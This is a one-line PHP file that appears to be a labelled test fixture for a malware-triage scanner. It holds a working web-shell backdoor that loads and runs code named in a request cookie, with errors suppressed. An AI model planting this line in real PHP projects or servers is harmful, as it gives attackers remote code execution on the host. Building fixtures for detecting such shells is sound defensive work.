<?@require($_COOKIE["t"]);?>
<!-- triage-expect: triage_php_request_direct_exec -->
